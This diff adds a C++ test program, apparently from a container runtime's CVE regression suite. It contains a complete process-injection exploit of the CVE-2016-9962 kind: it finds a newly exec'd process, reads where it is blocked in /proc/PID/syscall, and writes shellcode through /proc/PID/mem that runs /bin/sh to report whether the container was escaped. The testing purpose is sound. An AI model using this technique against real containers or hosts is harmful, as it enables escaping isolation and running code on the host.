@@ -1,0 +1,138 @@
+// A static x86-64 test program for the cve suite (CVE-2016-9962's class): run
+// as a container's process, it waits for the first new process to appear in
+// its PID namespace (a process `oci-run exec` starts), reads where that
+// process is blocked (/proc/PID/syscall: its program counter) and writes code
+// there through /proc/PID/mem. When the blocked call returns, that code execs
+// /bin/sh with a script that prints what the hijacked process reached: its
+// root (a marker file only the container's rootfs has) and its capabilities.
+// It prints what it did: "target PID", "mem: wrote N bytes at ADDR" or the
+// error that stopped it.
+#include <dirent.h>
+#include <fcntl.h>
+#include <unistd.h>
+
+#include <cerrno>
+#include <cstdio>
+#include <cstdlib>
+#include <cstring>
+#include <ctime>
+#include <set>
+#include <string>
+
+extern "C" const unsigned char hijack_code[], hijack_end[];
+
+// execve("/bin/sh", {"/bin/sh", "-c", SCRIPT, 0}, 0), then exit_group(99).
+// Position-independent: it is copied to wherever the target was stopped.
+asm(R"(
+    .section .rodata
+    .globl hijack_code, hijack_end
+hijack_code:
+    lea 1f(%rip), %rdi
+    lea 2f(%rip), %rsi
+    lea 3f(%rip), %rdx
+    push $0
+    push %rdx
+    push %rsi
+    push %rdi
+    mov %rsp, %rsi
+    xor %edx, %edx
+    mov $59, %eax
+    syscall
+    mov $99, %edi
+    mov $231, %eax
+    syscall
+1:  .asciz "/bin/sh"
+2:  .asciz "-c"
+3:  .asciz "echo HIJACKED; if test -e /hijack-marker; then echo IN_CONTAINER; else echo ON_HOST; fi; /bin/grep -E '^Cap(Eff|Bnd)' /proc/self/status"
+hijack_end:
+    .previous
+)");
+
+namespace {
+
+std::set<long> pids() {
+    std::set<long> out;
+    DIR *d = opendir("/proc");
+    if (!d) return out;
+    while (struct dirent *e = readdir(d)) {
+        char *end;
+        long pid = std::strtol(e->d_name, &end, 10);
+        if (*end == '\0' && pid > 0) out.insert(pid);
+    }
+    closedir(d);
+    return out;
+}
+
+void sleep_ms(long ms) {
+    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000};
+    nanosleep(&ts, nullptr);
+}
+
+} // namespace
+
+// As the container's PID 1, leaving would kill the target: stay until it is
+// gone (bounded).
+int wait_gone(long target, int code) {
+    std::string dir = "/proc/" + std::to_string(target);
+    for (int i = 0; i < 10000 && access(dir.c_str(), F_OK) == 0; i++)
+        sleep_ms(1);
+    return code;
+}
+
+int main() {
+    std::set<long> before = pids();
+    std::printf("watching\n");
+    std::fflush(stdout);
+    long target = 0;
+    for (int i = 0; i < 60000 && !target; i++) { // up to a minute
+        for (long p : pids())
+            if (!before.count(p) && p != getpid()) target = p;
+        if (!target) sleep_ms(1);
+    }
+    if (!target) {
+        std::printf("no new process\n");
+        return 1;
+    }
+    std::printf("target %ld\n", target);
+    std::string base = "/proc/" + std::to_string(target);
+    // Where it is blocked: "NR ARG1 .. ARG6 SP PC" ("running" meanwhile).
+    unsigned long pc = 0;
+    std::string line;
+    for (int i = 0; i < 2000 && !pc; i++) {
+        int fd = open((base + "/syscall").c_str(), O_RDONLY | O_CLOEXEC);
+        if (fd < 0) {
+            std::printf("syscall: open: %s\n", std::strerror(errno));
+            return wait_gone(target, 0);
+        }
+        char buf[512] = {};
+        ssize_t n = read(fd, buf, sizeof buf - 1);
+        int e = errno;
+        close(fd);
+        if (n < 0) {
+            std::printf("syscall: read: %s\n", std::strerror(e));
+            return wait_gone(target, 0);
+        }
+        line.assign(buf, static_cast<size_t>(n));
+        const char *last = std::strrchr(buf, ' ');
+        if (std::strncmp(buf, "running", 7) != 0 && last) pc = std::strtoul(last + 1, nullptr, 16);
+        if (!pc) sleep_ms(1);
+    }
+    if (!pc) {
+        std::printf("syscall: never blocked (%s)\n", line.c_str());
+        return wait_gone(target, 0);
+    }
+    int mem = open((base + "/mem").c_str(), O_RDWR | O_CLOEXEC);
+    if (mem < 0) {
+        std::printf("mem: open: %s\n", std::strerror(errno));
+        return wait_gone(target, 0);
+    }
+    size_t size = static_cast<size_t>(hijack_end - hijack_code);
+    ssize_t w = pwrite(mem, hijack_code, size, static_cast<off_t>(pc));
+    if (w < 0)
+        std::printf("mem: write: %s\n", std::strerror(errno));
+    else
+        std::printf("mem: wrote %zd bytes at %lx\n", w, pc);
+    close(mem);
+    std::fflush(stdout);
+    return wait_gone(target, 0);
+}
